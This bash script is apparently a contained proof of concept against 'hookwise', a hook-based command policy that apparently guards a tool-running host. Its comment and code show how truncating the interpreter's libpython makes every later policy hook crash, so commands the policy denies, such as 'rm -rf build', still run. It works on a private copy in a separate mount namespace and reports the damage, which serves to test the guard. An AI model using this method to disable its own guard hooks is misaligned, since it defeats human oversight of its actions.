#!/usr/bin/env bash
# (no session) hookwise's interpreter's shared library, libpython, is not on the list of
# what decides a hook (policy/trust/hook_code.py; a session guards it: run/guarded_paths.py
# _mapped_libpython). One allowed call truncates it; every later hook's python dies in the
# dynamic loader (exit 127, after the launcher's exec succeeded: EXEC_GUARD cannot see it),
# and the host runs the tool. Run in a private mount namespace where the path is a bind of a
# private copy, so no other process of the machine is touched (the write lands on the copy).
# usage: libpython.sh [control]
set -u
here=$(cd "$(dirname "$0")" && pwd)
. "$here/env.sh"
LIB=/root/.pyenv/versions/3.11.7/lib/libpython3.11.so.1.0
if [ "${INNER-}" != 1 ]; then
  cp "$LIB" "$RT/libpython.copy"
  exec env INNER=1 unshare -m --propagation private "$0" "$@"
fi
mount --bind "$RT/libpython.copy" "$LIB"
mkdir -p "$PROJ/build" && touch "$PROJ/build/keep"
write="truncate -s 0 $LIB"; [ "${1-}" = control ] && write="true"
"$here/plain_host.sh" 'rm -rf build' "$write" 'rm -rf build' 'echo hi > marker'
tail -2 "$RT/host.err"
[ -d "$PROJ/build" ] && echo "build still there" || echo "DAMAGE: build removed (rm -rf denied by the policy)"
[ -e "$PROJ/marker" ] && echo "DAMAGE: marker written (echo hi denied by the policy)"
rm -f "$PROJ/marker"
